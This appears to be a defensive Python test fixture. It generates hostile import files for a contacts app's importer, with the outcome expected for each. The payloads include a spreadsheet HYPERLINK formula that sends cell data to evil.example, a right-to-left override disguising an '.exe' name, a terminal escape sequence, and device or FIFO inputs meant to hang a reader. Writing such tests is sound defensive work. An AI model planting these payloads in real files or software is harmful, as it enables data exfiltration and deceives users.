"""Hostile import files, made on demand: what a careless or malicious sender could hand over.

Shared by the suite's hostile-input table (``tests/e2e/test_hostile_inputs.py``) and the
benchmark that times them (``benchmarks/hostile_inputs.py``). Each maker writes into a folder
and returns the path to import; FIFOs, devices and sockets are the real thing (POSIX only).
"""

from __future__ import annotations

import os
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import orjson

from companion.domain.limits import MAX_PEOPLE


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def fifo(folder: Path) -> Path:
    path = folder / "contacts.vcf"
    os.mkfifo(path)
    return path


def dev_zero(folder: Path) -> Path:
    path = folder / "zero.vcf"
    path.symlink_to("/dev/zero")
    return path


def dev_urandom(_folder: Path) -> Path:
    return Path("/dev/urandom")


def unix_socket(folder: Path) -> Path:
    path = folder / "calendar.ics"
    listener = socket.socket(socket.AF_UNIX)
    # Bound by a relative name: a socket's full path may hold at most 107 bytes.
    previous = Path.cwd()
    os.chdir(folder)
    try:
        listener.bind(path.name)
    finally:
        os.chdir(previous)
        listener.close()  # the socket file stays; nobody listens
    return path


def huge_csv(folder: Path, rows: int = 300_000) -> Path:
    lines = ["Name,E-mail 1 - Value,Phone 1 - Value,Notes"]
    lines.extend(
        f"Person {index},p{index}@example.org,+1 555 {index:07d},Met at meetup {index % 97}"
        for index in range(rows)
    )
    return _write(folder, "people.csv", ("\r\n".join(lines) + "\r\n").encode())


def many_cards(folder: Path, cards: int = MAX_PEOPLE + 5_000) -> Path:
    text = "".join(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Person {index}\r\n"
        f"EMAIL:p{index}@example.org\r\nEND:VCARD\r\n"
        for index in range(cards)
    )
    return _write(folder, "contacts.vcf", text.encode())


def million_emails(folder: Path, emails: int = 1_000_000) -> Path:
    """One card with a million addresses, and one ordinary card after it."""
    lines = ["BEGIN:VCARD", "VERSION:3.0", "FN:Many Mails"]
    lines.extend(f"EMAIL:m{index}@example.org" for index in range(emails))
    lines += ["END:VCARD", "BEGIN:VCARD", "VERSION:3.0", "FN:Ada Lovelace", "END:VCARD"]
    return _write(folder, "contacts.vcf", ("\r\n".join(lines) + "\r\n").encode())


def _backup(people: dict[str, dict[str, object]]) -> bytes:
    return orjson.dumps(
        {
            "format": "common-ground-backup",
            "backup_version": 1,
            "schema_version": 1,
            "exported_at": "2024-06-01T00:00:00+00:00",
            "tables": {"people": people},
        }
    )


def _person(person_id: str, name: str = "Ada Lovelace") -> dict[str, object]:
    return {"id": person_id, "name": name}


def formula_id(folder: Path) -> Path:
    person_id = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    return _write(folder, "backup.json", _backup({person_id: _person(person_id)}))


def five_mb_id(folder: Path) -> Path:
    person_id = "a" * (5 * 1024 * 1024)
    return _write(folder, "backup.json", _backup({person_id: _person(person_id)}))


def nul_name_backup(folder: Path) -> Path:
    person_id = "0" * 32
    return _write(folder, "backup.json", _backup({person_id: _person(person_id, "Ada\x00Evil")}))


def nul_name_card(folder: Path) -> Path:
    # NUL in the text of a card (vCard files are text: the whole file is refused).
    text = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada\x00 Lovelace\r\nEND:VCARD\r\n"
    return _write(folder, "contacts.vcf", text.encode())


def bidi_name_card(folder: Path) -> Path:
    """A card whose name hides its end behind RIGHT-TO-LEFT OVERRIDE, and an ordinary one."""
    text = (
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Invoice \u202egpj.exe\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada Lovelace\r\nEND:VCARD\r\n"
    )
    return _write(folder, "contacts.vcf", text.encode())


def control_name_csv(folder: Path) -> Path:
    """A CSV row whose name holds an escape character (a terminal would act on it)."""
    text = "Name,E-mail 1 - Value\r\nEvil \x1b[2J Mallory,m@example.org\r\nAda,ada@example.org\r\n"
    return _write(folder, "people.csv", text.encode())


def binary_junk(folder: Path) -> Path:
    junk = bytes((index * 7919 + 13) % 256 for index in range(256 * 1024))
    return _write(folder, "contacts.vcf", junk)


def empty(folder: Path) -> Path:
    return _write(folder, "contacts.vcf", b"")


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One row of the table: how to make the file, and what the import must answer."""

    name: str
    make: Callable[[Path], Path]
    #: 0: imported (hostile records rejected alone); 2: refused as a whole.
    exit_code: int
    #: Words the message must hold (in English).
    message: str


HOSTILE_FILES = (
    HostileFile("fifo", fifo, 2, "named pipe"),
    HostileFile("/dev/zero", dev_zero, 2, "device"),
    HostileFile("/dev/urandom", dev_urandom, 2, "device"),
    HostileFile("socket", unix_socket, 2, "socket"),
    HostileFile("300,000 CSV rows", huge_csv, 2, "at most 100,000"),
    HostileFile("105,000 cards", many_cards, 2, "at most 100,000"),
    HostileFile("1,000,000 emails in one card", million_emails, 0, "lines"),
    HostileFile("formula id", formula_id, 2, "not a valid id"),
    HostileFile("5 MB id", five_mb_id, 2, "not a valid id"),
    HostileFile("NUL in a backup name", nul_name_backup, 2, "U+0000"),
    HostileFile("NUL in a card", nul_name_card, 2, "NUL"),
    HostileFile("bidi override in a name", bidi_name_card, 0, ""),
    HostileFile("escape character in a CSV name", control_name_csv, 0, "U+001B"),
    HostileFile("binary junk", binary_junk, 2, "not"),
    HostileFile("empty file", empty, 2, "empty"),
)
